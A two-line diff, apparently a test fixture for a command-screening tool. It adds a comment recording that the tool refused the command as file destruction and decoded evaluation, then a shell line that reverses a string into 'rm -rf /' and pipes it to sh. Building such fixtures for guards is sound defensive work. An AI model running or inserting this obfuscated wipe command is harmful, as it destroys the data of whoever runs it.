@@ -1,0 +1,2 @@
+# nacre: refused file.destroy code.eval-decoded
+echo '/ fr- mr' | rev | sh
